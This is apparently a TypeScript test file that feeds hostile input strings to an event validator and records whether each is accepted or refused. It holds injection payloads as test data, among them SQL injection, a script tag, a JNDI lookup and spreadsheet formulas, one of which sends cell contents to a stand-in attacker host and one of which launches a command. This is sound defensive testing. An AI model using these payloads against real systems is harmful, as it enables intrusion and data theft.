import { RejectionCode } from '../..';
import { deeplyNested, set } from './case-builders';
import { ACCEPTED, CaseSpec, Template } from './corpus-case';

/** Text that is hostile elsewhere (SQL, HTML, templates, JNDI) is plain text here: stored verbatim, never run. */
export function hostileTextCases(fresh: Template): CaseSpec[] {
  return [
    {
      name: 'SQL injection in siteId',
      expectedCode: ACCEPTED,
      change: set('data.siteId', "x'); DROP TABLE tracker.device_events;--"),
    },
    {
      name: 'script tag in model',
      expectedCode: ACCEPTED,
      change: set('data.model', '<script>alert(1)</script>'),
    },
    {
      name: 'template expression in retailer',
      expectedCode: ACCEPTED,
      change: set('data.retailer', '{{7*7}} ${7*7} #{7*7}'),
    },
    {
      name: 'JNDI lookup in brand',
      expectedCode: ACCEPTED,
      change: set('data.brand', '${jndi:ldap://attacker.invalid/a}'),
    },
    // Identifiers end up in evidence CSVs a finance team opens in a spreadsheet (CSV injection).
    {
      name: 'spreadsheet formula in siteId',
      expectedCode: RejectionCode.INVALID_STRING,
      change: set('data.siteId', '=HYPERLINK("http://attacker.invalid/?"&A1,"open")'),
    },
    {
      name: 'spreadsheet formula in workshopId',
      type: 'device.refurbished',
      expectedCode: RejectionCode.INVALID_STRING,
      change: set('data.workshopId', "+cmd|' /C calc'!A0"),
    },
    {
      name: 'spreadsheet formula in erasureCertificateId',
      type: 'device.refurbished',
      expectedCode: RejectionCode.INVALID_STRING,
      change: set('data.erasureCertificateId', '@SUM(1+1)*cmd'),
    },
    {
      name: 'spreadsheet formula in orderId behind whitespace',
      type: 'device.resold',
      expectedCode: RejectionCode.INVALID_STRING,
      change: set('data.orderId', ' \t-2+3'),
    },
    {
      name: 'spreadsheet formula in source',
      expectedCode: RejectionCode.INVALID_STRING,
      change: set('source', '=1+1'),
    },
    {
      name: 'formula characters inside identifiers',
      type: 'device.refurbished',
      expectedCode: ACCEPTED,
      change: (e) => {
        set('data.workshopId', 'WS-12=A+B')(e);
        set('data.erasureCertificateId', 'cert@blancco-2025')(e);
      },
    },
    {
      name: 'spreadsheet formula in model (a label: neutralised where written, not refused)',
      expectedCode: ACCEPTED,
      change: set('data.model', '=1+1'),
    },
    {
      name: 'escaped NUL in siteId',
      expectedCode: RejectionCode.INVALID_STRING,
      change: set('data.siteId', 'SITE\u0000-1'),
    },
    {
      name: 'bell control character in model',
      expectedCode: RejectionCode.INVALID_STRING,
      change: set('data.model', 'iPhone\u0007'),
    },
    {
      name: 'right-to-left override in orderId',
      type: 'device.resold',
      expectedCode: RejectionCode.INVALID_STRING,
      change: set('data.orderId', 'BM-\u202e2141'),
    },
    {
      name: 'lone surrogate in return reason',
      type: 'device.returned',
      expectedCode: RejectionCode.INVALID_STRING,
      change: set('data.reason', 'broken \ud800 screen'),
    },
    {
      name: 'zero-width joiner in id (a distinct id)',
      expectedCode: ACCEPTED,
      change: (e) => (e.id = `${e.id.slice(0, 4)}\u200d${e.id.slice(4)}`),
    },
    {
      name: 'huge array as an extension attribute (ignored)',
      expectedCode: ACCEPTED,
      change: set(
        'partnerbatch',
        Array.from({ length: 5000 }, (_, i) => i),
      ),
    },
    {
      name: '__proto__ key in data (no pollution)',
      expectedCode: ACCEPTED,
      change: (e) =>
        Object.defineProperty(e.data, '__proto__', { value: { polluted: true }, enumerable: true }),
    },
    {
      name: '__proto__ supplying a missing category',
      expectedCode: RejectionCode.MISSING_FIELD,
      change: (e) => {
        delete e.data.category;
        Object.defineProperty(e.data, '__proto__', { value: { category: 'smartphone' }, enumerable: true });
      },
    },
    {
      name: 'model nested 5000 levels deep',
      expectedCode: RejectionCode.INVALID_FIELD,
      body: deeplyNested(fresh(), 'data.model'),
    },
    {
      name: 'extension attribute nested 5000 levels deep (ignored)',
      expectedCode: ACCEPTED,
      body: deeplyNested(fresh(), 'partnertrace'),
    },
    {
      name: 'constructor.prototype in the envelope',
      expectedCode: ACCEPTED,
      change: set('constructor', { prototype: { polluted: true } }),
    },
  ];
}
